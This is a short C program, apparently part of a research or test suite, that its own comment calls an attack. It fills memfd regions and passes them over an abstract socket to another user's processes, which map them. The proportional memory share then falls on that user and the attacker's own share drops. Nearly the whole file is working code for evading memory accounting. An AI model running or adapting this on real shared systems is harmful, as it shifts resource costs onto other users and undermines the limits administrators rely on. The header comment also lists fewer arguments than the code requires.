/*
 * Fills memfds through mappings, and has another user's processes map them too: each of them lowers the attacker's proportional
 * share. Arguments: the name of that user's abstract socket; MiB.
 */
#include "common.h"

int main(int count, char **arguments)
{
	double end = now() + atof(arguments[2]);
	long bytes, step = 8 * MIB;
	int receiver;

	must(count == 5, "arguments");
	bytes = atol(arguments[4]) * MIB;
	receiver = connect_abstract(arguments[3]);
	for (long done = 0; done < bytes; done += step) {
		int piece = memfd_create("attack", MFD_CLOEXEC);
		char *at;

		must(piece != -1 && ftruncate(piece, step) == 0, "memfd_create");
		at = mmap(NULL, step, PROT_READ | PROT_WRITE, MAP_SHARED, piece, 0);
		must(at != MAP_FAILED, "mmap");
		touch(at, step);
		send_file(receiver, piece);
		close(piece);
		/* They map it before the next one is filled. */
		pause_ms(50);
	}
	while (now() < end)
		pause_ms(20);
	return 0;
}
